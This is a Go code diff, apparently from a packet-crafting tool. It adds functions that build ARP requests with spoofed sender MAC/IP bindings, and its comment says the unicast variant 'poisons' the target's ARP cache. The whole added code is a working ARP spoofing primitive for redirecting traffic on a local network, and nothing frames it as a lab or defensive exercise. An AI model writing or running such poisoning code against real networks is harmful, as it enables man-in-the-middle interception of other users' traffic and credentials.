@@ -74,3 +74,43 @@ func CraftARPRequest(srcMAC net.HardwareAddr, srcIP, targetIP net.IP) ([]byte, e
 
 	return buf.Bytes(), nil
 }
+
+// CraftARPUnicastRequest creates an ARP Request sent straight to dstMAC. Hosts
+// cache the sender binding of requests addressed to them, so this poisons as well as a reply.
+func CraftARPUnicastRequest(srcMAC, dstMAC net.HardwareAddr, srcIP, dstIP net.IP) ([]byte, error) {
+	return craftARP(layers.ARPRequest, srcMAC, dstMAC, srcMAC, srcIP, net.HardwareAddr{0, 0, 0, 0, 0, 0}, dstIP)
+}
+
+// craftARP builds an ARP packet whose Ethernet and ARP sender addresses may differ
+func craftARP(op uint16, ethSrc, ethDst, senderMAC net.HardwareAddr, senderIP net.IP, targetMAC net.HardwareAddr, targetIP net.IP) ([]byte, error) {
+	eth := layers.Ethernet{
+		SrcMAC:       ethSrc,
+		DstMAC:       ethDst,
+		EthernetType: layers.EthernetTypeARP,
+	}
+
+	arp := layers.ARP{
+		AddrType:          layers.LinkTypeEthernet,
+		Protocol:          layers.EthernetTypeIPv4,
+		HwAddressSize:     6,
+		ProtAddressSize:   4,
+		Operation:         op,
+		SourceHwAddress:   []byte(senderMAC),
+		SourceProtAddress: []byte(senderIP.To4()),
+		DstHwAddress:      []byte(targetMAC),
+		DstProtAddress:    []byte(targetIP.To4()),
+	}
+
+	buf := gopacket.NewSerializeBuffer()
+	opts := gopacket.SerializeOptions{
+		FixLengths:       true,
+		ComputeChecksums: true,
+	}
+
+	err := gopacket.SerializeLayers(buf, opts, &eth, &arp)
+	if err != nil {
+		return nil, err
+	}
+
+	return buf.Bytes(), nil
+}